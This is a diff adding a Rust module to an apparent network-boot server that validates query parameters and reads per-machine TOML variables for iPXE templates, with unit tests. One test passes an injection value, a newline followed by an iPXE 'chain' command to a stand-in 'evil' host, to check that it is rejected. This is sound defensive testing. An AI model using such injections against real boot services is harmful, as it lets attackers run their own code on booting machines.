@@ -1,0 +1,121 @@
+//! What a machine boots: which script it gets and with which variables. The
+//! rendering itself is the pure [`crate::bootcfg::template`]; this module only
+//! finds the inputs on disk.
+//!
+//! Variables, later ones overriding earlier ones:
+//! 1. the query parameters of `/boot/ipxe` (`mac`, `platform`, `buildarch`, ...);
+//! 2. the machine's `vars.toml` (flat `name = "value"` pairs);
+//! 3. bootgate's own: `machine_name`, `client_cert_fingerprint`, `server_url`,
+//!    and `secrets_url` when the template uses it.
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+
+use super::error::{Refusal, internal};
+use crate::bootcfg::template::Vars;
+use crate::datadir::DataDir;
+use crate::registry::Machine;
+
+/// File name of a machine's variables, beside its `boot.ipxe`.
+pub const VARS_FILE: &str = "vars.toml";
+
+/// The folder a machine's requests are served from: its own
+/// `files/<fingerprint>/`, or `files/default/` when it has none.
+pub fn machine_root(dir: &DataDir, machine: &Machine) -> PathBuf {
+    let own = dir.machine_files_dir(&machine.fingerprint);
+    if own.is_dir() {
+        own
+    } else {
+        dir.default_files_dir()
+    }
+}
+
+/// Checks query parameters before they become template variables: names are
+/// identifiers, values hold nothing that could break an iPXE or kernel command
+/// line (no spaces, quotes, `$`, `;` or newlines).
+pub fn query_vars(query: &HashMap<String, String>) -> Result<Vars, Refusal> {
+    let mut vars = Vars::new();
+    for (name, value) in query {
+        let name_ok = is_identifier(name) && name.len() <= 64;
+        let value_ok = value.len() <= 256
+            && value
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"._:+,@/-".contains(&b));
+        if !name_ok || !value_ok {
+            return Err(Refusal::BadRequest(format!(
+                "query parameter {name:?} has characters bootgate does not put into scripts"
+            )));
+        }
+        vars.insert(name.clone(), value.clone());
+    }
+    Ok(vars)
+}
+
+fn is_identifier(s: &str) -> bool {
+    let mut bytes = s.bytes();
+    bytes
+        .next()
+        .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
+        && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_')
+}
+
+/// Reads `vars.toml` from a machine's folder; a missing file means no variables.
+pub fn file_vars(root: &Path) -> Result<Vars, Refusal> {
+    let path = root.join(VARS_FILE);
+    let text = match std::fs::read_to_string(&path) {
+        Ok(text) => text,
+        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return Ok(Vars::new()),
+        Err(err) => return Err(internal(&format!("reading {}", path.display()), err)),
+    };
+    parse_vars(&text).map_err(|err| internal(&format!("parsing {}", path.display()), err))
+}
+
+/// Parses a vars file: a flat TOML table of strings, integers or booleans.
+pub fn parse_vars(text: &str) -> anyhow::Result<Vars> {
+    let table: toml::Table = toml::from_str(text)?;
+    let mut vars = Vars::new();
+    for (name, value) in table {
+        if !is_identifier(&name) {
+            anyhow::bail!("{name:?} is not a valid variable name ([A-Za-z_][A-Za-z0-9_]*)");
+        }
+        let value = match value {
+            toml::Value::String(s) => s,
+            toml::Value::Integer(i) => i.to_string(),
+            toml::Value::Boolean(b) => b.to_string(),
+            other => anyhow::bail!(
+                "{name} is a {}; only strings, integers and booleans are allowed",
+                other.type_str()
+            ),
+        };
+        vars.insert(name, value);
+    }
+    Ok(vars)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn vars_files() {
+        let vars = parse_vars("role = \"gateway\"\nslot = 3\nfast = true\n").unwrap();
+        assert_eq!(vars["role"], "gateway");
+        assert_eq!(vars["slot"], "3");
+        assert_eq!(vars["fast"], "true");
+        assert!(parse_vars("[table]\nx = 1\n").is_err());
+        assert!(parse_vars("\"bad-name\" = 1\n").is_err());
+        assert!(parse_vars("not toml").is_err());
+    }
+
+    #[test]
+    fn query_values_are_checked() {
+        let q = |k: &str, v: &str| HashMap::from([(k.to_string(), v.to_string())]);
+        assert!(query_vars(&q("mac", "52:54:00:12:34:56")).is_ok());
+        assert!(query_vars(&q("buildarch", "x86_64")).is_ok());
+        assert!(query_vars(&q("mac", "")).is_ok());
+        assert!(query_vars(&q("mac", "a b")).is_err());
+        assert!(query_vars(&q("mac", "x\nchain http://evil")).is_err());
+        assert!(query_vars(&q("mac", "$x")).is_err());
+        assert!(query_vars(&q("bad-name", "x")).is_err());
+    }
+}
